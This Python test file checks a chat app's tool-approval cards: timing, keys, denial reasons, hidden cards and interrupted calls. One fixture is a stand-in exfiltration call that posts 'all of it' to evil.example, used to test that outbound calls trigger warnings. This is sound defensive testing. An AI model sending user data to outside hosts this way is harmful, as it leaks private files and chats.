"""Tools that wait for a yes or no. Lost else: what runs is what the person has read and agreed to, and nothing more."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from tests.support.app import Running, running
from tests.support.calling import Call, PlayedTools, calling
from tests.support.scripted import ScriptedCatalog, ScriptedModel
from tui.app.dialogs.deny_call import DenyCall
from tui.chat.message_parts import ToolCallContent
from tui.chat.stored_parts import stored_parts

EDIT: Call = ("files_edit", {"path": "src/a.py", "old_string": "wait(1)", "new_string": "wait(2)"})
POST: Call = ("files_post", {"host": "evil.example", "text": "all of it"})


class Clock:
    """A clock that stands until it is moved; far more than any key may wait for its turn."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now

    def move(self) -> None:
        self.now += 1_000.0


@asynccontextmanager
async def asking(
    home: Path, *rounds: list[Call | str], size: tuple[int, int] = (120, 40), **arguments: Any
) -> AsyncIterator[tuple[Running, PlayedTools, Clock]]:
    catalog = ScriptedCatalog({"fake:one": calling(*rounds), "fake:two": ScriptedModel()}, window=10_000)
    async with running(home, catalog=catalog, size=size, **arguments) as here:
        tools, clock = PlayedTools(here.library), Clock()
        here.replies._tools = tools
        here.transcript.approvals.clock = clock
        yield here, tools, clock


async def go(here: Running, clock: Clock) -> None:
    """Send a prompt, wait until a card is there, and go to it."""
    await here.send("Go")
    await here.until(lambda: here.transcript.approvals, "a card")
    await here.pilot.press("alt+w")
    assert here.transcript.has_focus, "the keys are for the card"


async def read(here: Running, clock: Clock) -> None:
    """Have a card in view for so long that keys answer."""
    await here.until(lambda: any(card.since is not None for card in here.transcript.approvals._cards), "a card in view")
    clock.move()


def calls(here: Running) -> list[ToolCallContent]:
    record = here.app.chat.presenter.records[-1]
    return [part for part in stored_parts(record) if isinstance(part, ToolCallContent)]


async def test_a_call_runs_after_a_and_not_before(tmp_path: Path) -> None:
    async with asking(tmp_path, [EDIT]) as (here, tools, clock):
        await go(here, clock)
        shown = here.text_of(here.transcript)
        assert "? files · edit wants to run" in shown and "in src/a.py" in shown and "wait([-1-]{+2+})" in shown
        assert '"new_string": "wait(2)"' in shown and "Change a file." in shown and "In place" not in shown
        await here.pilot.press("a")
        assert not tools.ran and not here.composer.text, "it came before anybody can have read it"
        await read(here, clock)
        await here.pilot.press("enter", "space")
        assert not tools.ran, "only its keys answer"
        await here.pilot.press("a")
        await here.settled()
        assert tools.ran == [("edit", EDIT[1])]
        (call,) = calls(here)
        assert (call.state, call.approval, call.server) == ("done", "once", "files")
        shown = here.text_of(here.transcript)
        assert "✓ files · edit" in shown and "wants to run" not in shown


async def test_s_is_for_this_chat_and_d_says_why_not(tmp_path: Path) -> None:
    async with asking(tmp_path, [EDIT], [EDIT], [POST]) as (here, tools, clock):
        await go(here, clock)
        await read(here, clock)
        await here.pilot.press("s")
        await here.until(lambda: len(tools.ran) == 2, "the second call, which is not asked about")
        await here.until(lambda: "post wants to run" in here.text_of(here.transcript), "the next card")
        await here.pilot.press("alt+w")
        await read(here, clock)
        await here.pilot.press("d")
        await here.until(lambda: isinstance(here.app.screen, DenyCall), "the dialog")
        await here.pilot.press("escape")
        await here.until(lambda: here.app.screen is here.app.chat, "the chat")
        assert here.transcript.approvals, "who goes back has not answered"
        await here.pilot.press("d")
        assert here.app.screen is here.app.chat, "it came into view again just now"
        await read(here, clock)
        await here.pilot.press("d")
        await here.until(lambda: isinstance(here.app.screen, DenyCall), "the dialog again")
        await here.type("not there")
        await here.pilot.press("enter")
        await here.settled()
        assert [name for name, _ in tools.ran] == ["edit", "edit"]
        shown = here.text_of(here.transcript)
        assert "The user did not allow this call. not there" in shown and "not allowed · not there" in shown


async def test_what_is_typed_where_one_writes_answers_nothing_and_escape_stops(tmp_path: Path) -> None:
    async with asking(tmp_path, [EDIT]) as (here, tools, clock):
        await here.send("Go")
        await here.until(lambda: here.transcript.approvals, "a card")
        await read(here, clock)
        await here.type("so and add")
        assert here.composer.text == "so and add" and not tools.ran and here.transcript.approvals
        assert "alt+w answer tool" in here.screen() and "alt+w first" in here.text_of(here.transcript)
        await here.pilot.press("alt+w")
        await read(here, clock)
        await here.pilot.press("escape")
        await here.settled()
        assert not tools.ran and here.app.chat.presenter.records[-1].state == "interrupted"
        assert "wants to run" not in here.text_of(here.transcript)


async def test_what_could_carry_words_out_is_asked_about_each_time_and_a_click_answers(tmp_path: Path) -> None:
    looked: Call = ("files_read", {})
    async with asking(tmp_path, [looked], [POST]) as (here, tools, clock):
        await go(here, clock)
        shown = " ".join(here.text_of(here.transcript).split())
        assert "leads to evil.example" in shown and "allow in this chat" not in shown
        assert "Words from outside are in this chat" in shown and "Your own files or chats" in shown
        rows = here.text_of(here.transcript).splitlines()
        y = next(number for number, row in enumerate(rows) if "allow once" in row)
        await here.pilot.click(here.transcript, (rows[y].index("allow once"), y))
        await here.pilot.press("alt+w")
        await read(here, clock)
        await here.pilot.press("s")
        assert [name for name, _ in tools.ran] == ["read"]
        await here.pilot.click(here.transcript, (rows[y].index("allow once"), y))
        await here.settled()
        assert [name for name, _ in tools.ran] == ["read", "post"]
        assert here.composer.area.has_focus or here.transcript.has_focus


async def test_several_calls_are_answered_one_by_one(tmp_path: Path) -> None:
    async with asking(tmp_path, [EDIT, POST, EDIT]) as (here, tools, clock):
        await here.send("Go")
        await here.until(lambda: len(here.transcript.approvals._cards) == 3, "three cards")
        await here.pilot.press("alt+w", "tab")
        assert "2 of 3" in here.text_of(here.transcript)
        await here.until(lambda: here.transcript.approvals._cards[1].since is not None, "the second one in view")
        clock.move()
        await here.pilot.press("a")
        await here.until(lambda: tools.ran, "the call")
        assert [name for name, _ in tools.ran] == ["post"]
        await here.until(lambda: len(here.transcript.approvals._cards) == 2, "two cards")
        await here.pilot.press("a", "a")
        assert len(tools.ran) == 1, "the next one was not read yet"


async def test_a_card_that_is_not_in_view_is_not_answered(tmp_path: Path) -> None:
    long: Call = ("files_edit", {"path": "p", "lines": [f"line {number}" for number in range(200)]})
    async with asking(tmp_path, [long], size=(80, 24)) as (here, tools, clock):
        await go(here, clock)
        await read(here, clock)
        await here.pilot.press("home")
        assert '"line 3"' in here.text_of(here.transcript)
        clock.move()
        await here.pilot.press("a")
        assert not tools.ran and "a allow once" in here.text_of(here.transcript), "its end came into view"
        await here.pilot.press("a")
        assert not tools.ran, "and was not read yet"
        await read(here, clock)
        here.app.app_focus = False
        clock.move()
        here.app.app_focus = True
        await here.pilot.press("a")
        assert not tools.ran, "the window was not looked at"
        await read(here, clock)
        await here.pilot.press("a")
        await here.settled()
        assert len(tools.ran) == 1


async def test_a_chat_that_is_not_shown_says_that_a_tool_waits(tmp_path: Path) -> None:
    async with asking(tmp_path, [EDIT]) as (here, tools, clock):
        await go(here, clock)
        first = here.app.chat.presenter.id
        await here.pilot.press("ctrl+n")
        await here.until(lambda: here.app.chat.presenter.id != first, "another chat")
        clock.move()
        chat_list = here.app.chat.layout_view.chat_list
        await here.until(lambda: "?" in here.text_of(chat_list), "the mark")
        assert not here.transcript.approvals
        here.app.chat.open_chat(first)
        await here.until(lambda: here.transcript.approvals, "the card")
        await here.pilot.press("alt+w", "a")
        assert not tools.ran, "it came into view just now"
    async with running(tmp_path) as again:  # who leaves while a tool waits finds it stopped
        (chat,) = await again.library.conversations(limit=5)
        again.app.chat.open_chat(chat.id)
        await again.until(lambda: again.app.chat.presenter.records, "the chat")
        await again.pilot.pause()
        shown = again.text_of(again.transcript)
        assert "files_edit" in shown and "stopped" in shown and not again.transcript.approvals
